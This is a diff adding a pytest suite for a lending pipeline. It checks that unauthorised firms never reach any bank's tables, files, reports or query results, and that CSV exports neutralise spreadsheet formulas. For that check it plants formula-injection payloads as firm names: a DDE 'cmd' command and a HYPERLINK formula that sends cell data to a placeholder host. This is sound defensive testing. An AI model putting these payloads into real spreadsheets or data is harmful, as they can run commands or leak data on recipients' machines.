@@ -1,0 +1,222 @@
+"""One gate for everything a bank receives: on a scored loan book whose authorisations are redelivered
+with grants revoked and expired (beside the firms that never granted one), no artefact of any bank
+(its schema's tables, its Parquet, CSVs and workbook, its report batch, its `bank query` results)
+holds a firm without a valid authorisation on the date, and the authorised firms are all there. Text
+a spreadsheet would run as a formula (a firm named `=cmd|...`) reaches the CSVs neutralised."""
+
+import hashlib
+import io
+import re
+from datetime import date, timedelta
+from pathlib import Path
+
+import duckdb
+import pandas as pd
+import pytest
+
+from lending.eligibility import build_eligibility
+from lending.products import load_products
+from lending.publish import _csv, publish
+from lending.warnings import update_warnings
+from reports.firm import bank_batches
+from valuecredit.calendar import WorkingDays
+from valuecredit.cli import main
+from valuecredit.ingest import ingest_source
+from valuecredit.ledger.config import load_pool_config
+from valuecredit.ledger.store import post_business_date
+from valuecredit.scoring.catalogue import load_catalogue
+
+DAY = date(2026, 11, 28)  # the loan book's business date: its files were all loaded on it
+PRODUCTS, CAT = load_products(), load_catalogue()
+BANKS = sorted(PRODUCTS.banks)
+FORMULAS = ("=cmd|' /C calc'!A0", '=HYPERLINK("http://x/?d="&A2,"click")')
+USCC = re.compile(r"[0-9A-Z]{18}")
+REPORTS_PER_BANK = 6
+
+
+def grants(landing: Path) -> pd.DataFrame:
+    """Every delivered authorisation row, the latest delivery of each grant (firm, granted_on) winning."""
+    manifest = pd.read_csv(landing / "manifest.csv", dtype=str, keep_default_na=False)
+    files = manifest[manifest.source == "authorisations"].sort_values(["delivered_on", "file"])
+    rows = pd.concat([pd.read_csv(landing / f, dtype=str, keep_default_na=False) for f in files.file], ignore_index=True)
+    return rows.drop_duplicates(["uscc", "granted_on"], keep="last")
+
+
+def valid_on(frame: pd.DataFrame, day: date) -> set[str]:
+    """The firms with a valid grant on `day` (the test's own reading of the rule)."""
+    d = pd.Timestamp(day)
+    granted, expires = pd.to_datetime(frame.granted_on), pd.to_datetime(frame.expires_on)
+    revoked = pd.to_datetime(frame.revoked_on.replace("", None))
+    ok = (granted <= d) & (expires > d) & (revoked.isna() | (revoked > d))
+    return set(frame.uscc[ok])
+
+
+def as_delivered(src: Path, dst: Path, source: str, edit, correction: pd.DataFrame | None = None) -> None:
+    """`dst`, a landing zone of its own, gets every file of `source` in `src` with `edit` applied to
+    its rows (as if the department had delivered them so, on the same day), and `correction`, when
+    given, as one more file delivered on DAY (its rows supersede the grants they repeat)."""
+    manifest = pd.read_csv(src / "manifest.csv", dtype=str, keep_default_na=False)
+    rows = manifest[manifest.source == source].copy()
+
+    def write(i, file: str, frame: pd.DataFrame, encoding: str) -> None:
+        (dst / file).parent.mkdir(parents=True, exist_ok=True)
+        frame.to_csv(dst / file, index=False, encoding=encoding)
+        raw = (dst / file).read_bytes()
+        rows.loc[i, ["file", "sha256", "bytes", "rows"]] = [file, hashlib.sha256(raw).hexdigest(), str(len(raw)),
+                                                            str(len(frame))]
+
+    for i, entry in list(rows.iterrows()):
+        write(i, entry.file, edit(pd.read_csv(src / entry.file, dtype=str, keep_default_na=False,
+                                              encoding=entry.encoding)), entry.encoding)
+    if correction is not None:
+        last = rows.index[-1]
+        rows.loc["correction"] = rows.loc[last]
+        rows.loc["correction", "delivered_on"] = DAY.isoformat()
+        write("correction", str(Path(rows.loc[last, "file"]).with_name(f"{source}_correction.csv")), correction,
+              rows.loc[last, "encoding"])
+    old = pd.read_csv(dst / "manifest.csv", dtype=str, keep_default_na=False) if (dst / "manifest.csv").exists() else None
+    pd.concat([old, rows] if old is not None else [rows]).to_csv(dst / "manifest.csv", index=False)
+
+
+@pytest.fixture(scope="module")
+def gated(loan_book, score_loan_book, tmp_path_factory):
+    work = tmp_path_factory.mktemp("gate")
+    _, landing, _ = loan_book
+    night = score_loan_book(work, (DAY,))
+    con = night.con
+    post_business_date(con, DAY, load_pool_config(), WorkingDays.load())
+    update_warnings(con, DAY)
+    build_eligibility(con, DAY, PRODUCTS)
+
+    delivered = grants(landing)
+    authorised = valid_on(delivered, DAY)
+    warned = sorted(u for (u,) in con.execute("SELECT DISTINCT uscc FROM decisions.early_warnings WHERE status = 'open'")
+                    .fetchall())
+    # B03's eligible firms, largest limits first: the ones its report batch would take
+    top = [u for (u,) in con.execute("""
+        SELECT p.uscc FROM decisions.eligibility_pairs p JOIN decisions.eligibility_products USING (as_of, product_id)
+        WHERE p.as_of = ? AND p.eligible AND bank_id = 'B03' GROUP BY p.uscc
+        ORDER BY max(p.computed_limit_fen) DESC, p.uscc""", [DAY]).fetchall()]
+    warned_ok = [u for u in warned if u in authorised and u not in top]
+    top_ok = [u for u in top if u in authorised and u not in warned]
+    assert len(warned_ok) > 4 and len(top_ok) > 5
+    # the three ways to have no valid authorisation on the date, each for a borrower with a warning and
+    # for a firm B03's batch would take but for the gate: grants revoked or cut short by a correction
+    # delivered on the date, and grants never given (taken out of the files as delivered)
+    revoked, expired, never = {warned_ok[0], top_ok[0]}, {warned_ok[1], top_ok[1]}, {warned_ok[2], top_ok[2]}
+    assert {top_ok[0], top_ok[1], top_ok[2]} <= set(top[:REPORTS_PER_BANK])
+    renamed = dict(zip(top_ok[3:5], FORMULAS))  # authorised, eligible at B03
+
+    correction = delivered[delivered.uscc.isin(revoked | expired)].copy()
+    correction.loc[correction.uscc.isin(revoked), "revoked_on"] = (DAY - timedelta(days=3)).isoformat()
+    correction.loc[correction.uscc.isin(expired), "expires_on"] = (DAY - timedelta(days=1)).isoformat()
+
+    def registry(frame):
+        frame["name"] = frame.uscc.map(renamed).fillna(frame["name"])
+        return frame
+
+    edited = work / "redelivered"
+    as_delivered(landing, edited, "registry", registry)
+    as_delivered(landing, edited, "authorisations", lambda frame: frame[~frame.uscc.isin(never)], correction)
+    now = valid_on(grants(edited), DAY)
+    assert now == authorised - revoked - expired - never
+    for source in ("authorisations", "registry"):  # DAY's partition again: the files as redelivered
+        outcome = ingest_source(con, edited, source, DAY)
+        assert not outcome.rejected and not outcome.quarantined_by_rule, outcome
+    build_eligibility(con, DAY, PRODUCTS)
+    out, reports = work / "publish", work / "reports"
+    publish(con, DAY, PRODUCTS, out)
+    bank_batches(con, BANKS, DAY, CAT, reports, limit=REPORTS_PER_BANK)
+    scored = {u for (u,) in con.execute("SELECT uscc FROM scores.commercial_value WHERE as_of = ?", [DAY]).fetchall()}
+    con.execute("CHECKPOINT")
+    yield {"con": con, "db": work / "night.duckdb", "out": out, "reports": reports, "authorised": now, "firms": scored,
+           "unauthorised": scored - now, "victims": revoked | expired | never, "warned": set(warned_ok[3:]),
+           "batch": [u for u in top if u in now][:REPORTS_PER_BANK], "renamed": renamed}
+    con.close()
+
+
+def firms_in_frame(frame: pd.DataFrame) -> set[str]:
+    """Every USCC in any cell, a cell of text included (and runs of 18 digits of other numbers)."""
+    return {u for col in frame.columns for v in frame[col].tolist() for u in USCC.findall(str(v))}
+
+
+def bank_artefacts(g, capsys) -> dict[tuple[str, str], set[str]]:
+    """(bank, artefact) -> the USCCs in it, for every artefact of every bank."""
+    con, found = g["con"], {}
+    for bank in BANKS:
+        schema = f"bank_{bank.lower()}"
+        for (table,) in con.execute("SELECT table_name FROM information_schema.tables WHERE table_schema = ?",
+                                    [schema]).fetchall():
+            found[bank, f"table {table}"] = firms_in_frame(con.execute(f'SELECT * FROM {schema}."{table}"').df())
+        for path in sorted((g["out"] / bank).rglob("*")):
+            if path.is_dir():
+                continue
+            kind = path.suffix or path.name
+            if kind == ".parquet":
+                found[bank, path.name] = firms_in_frame(pd.read_parquet(path))
+            elif kind == ".xlsx":
+                found[bank, path.name] = set().union(*map(firms_in_frame, pd.read_excel(path, sheet_name=None).values()))
+            else:  # CSVs and LATEST
+                found[bank, path.name] = set(USCC.findall(path.read_text(encoding="utf-8-sig")))
+        for path in sorted((g["reports"] / bank).rglob("*.html")):
+            found[bank, f"report {path.name}"] = set(USCC.findall(path.read_text(encoding="utf-8")))
+        for table in ("eligibility", "early_warnings"):
+            assert main(["bank", "query", "--bank", bank, "--publish", str(g["out"]), f"SELECT * FROM {table}"]) == 0
+            found[bank, f"bank query {table}"] = set(USCC.findall(capsys.readouterr().out))
+    return found
+
+
+def test_no_bank_artefact_holds_a_firm_without_a_valid_authorisation(gated, capsys):
+    found = bank_artefacts(gated, capsys)
+    kinds = {a.split(" ")[0] if " " in a else a for _, a in found}
+    assert kinds == {"table", "eligibility.parquet", "eligibility.csv", "eligibility.xlsx", "early_warnings.csv",
+                     "LATEST", "report", "bank"}
+    assert len(found) > 17 * 9
+    leaks = {k: sorted(v & gated["unauthorised"]) for k, v in found.items() if v & gated["unauthorised"]}
+    assert leaks == {}
+    assert gated["victims"] <= gated["unauthorised"]
+    # the gate is no blanket: the authorised borrowers' warnings and eligible firms all reach their banks
+    everything = set().union(*found.values())
+    assert gated["warned"] <= everything
+    warned_tables = set().union(*(v for (_, a), v in found.items() if a == "table early_warnings")) & gated["firms"]
+    con = gated["con"]
+    expected = {u for (u,) in con.execute("SELECT DISTINCT uscc FROM decisions.early_warnings WHERE status = 'open'")
+                .fetchall()} & gated["authorised"]
+    assert warned_tables == expected and gated["warned"] <= expected
+    # every authorised firm is decided for every product, so each is in some bank's eligibility
+    assert set().union(*(v for (_, a), v in found.items() if a == "eligibility.parquet")) & gated["firms"] == {
+        u for (u,) in con.execute("SELECT uscc FROM decisions.eligibility_firms WHERE as_of = ?", [DAY]).fetchall()
+    } & gated["authorised"]
+    # B03's batch: its authorised eligible firms with the largest limits
+    assert found["B03", "report index.html"] & gated["firms"] == set(gated["batch"])
+
+
+def test_firm_names_that_are_formulas_reach_every_csv_as_text(gated, capsys):
+    folder = gated["out"] / "B03" / DAY.isoformat()
+    csv = pd.read_csv(folder / "eligibility.csv", encoding="utf-8-sig", dtype=str, keep_default_na=False)
+    parquet = pd.read_parquet(folder / "eligibility.parquet")
+    for uscc, name in gated["renamed"].items():
+        assert set(csv.firm_name[csv.uscc == uscc]) == {"'" + name}  # Excel shows it, does not run it
+        assert set(parquet.firm_name[parquet.uscc == uscc]) == {name}  # Parquet keeps the value as delivered
+    assert not csv.firm_name.str.match(r"[=+\-@\t\r]").any()
+    assert (csv.limit_fen.astype(int) >= 0).all()  # numbers stay numbers
+    assert main(["bank", "query", "--bank", "B03", "--publish", str(gated["out"]),
+                 "SELECT uscc, firm_name, limit_fen, '-1' AS t FROM eligibility WHERE firm_name LIKE '=%' "
+                 "ORDER BY uscc, product_id"]) == 0
+    got = pd.read_csv(io.StringIO(capsys.readouterr().out), dtype=str)
+    assert set(zip(got.uscc, got.firm_name)) == {(u, "'" + n) for u, n in gated["renamed"].items()}
+    assert (got.t == "'-1").all() and got.limit_fen.str.fullmatch(r"\d+").all()
+
+
+def test_every_text_cell_a_spreadsheet_would_run_is_neutralised_in_a_published_csv(tmp_path):
+    con = duckdb.connect()
+    _csv(con, """SELECT * FROM (VALUES ('w1', '=1+2', -3, 'a=b'), ('w2', '+41', 4, '@SUM(A1)'),
+                                       ('w3', '-2', NULL, chr(9) || 'tab'), ('w4', chr(13) || 'cr', 5, NULL))
+                 t(warning_id, evidence, n, kind)""", tmp_path / "w.csv")
+    raw = (tmp_path / "w.csv").read_bytes()
+    assert raw.startswith(b"\xef\xbb\xbf")
+    frame = pd.read_csv(tmp_path / "w.csv", encoding="utf-8-sig", dtype=str, keep_default_na=False)
+    assert list(frame.columns) == ["warning_id", "evidence", "n", "kind"]
+    assert frame.evidence.tolist() == ["'=1+2", "'+41", "'-2", "'\rcr"]
+    assert frame.kind.tolist() == ["a=b", "'@SUM(A1)", "'\ttab", ""]
+    assert frame.n.tolist() == ["-3", "4", "", "5"]  # a number is never text
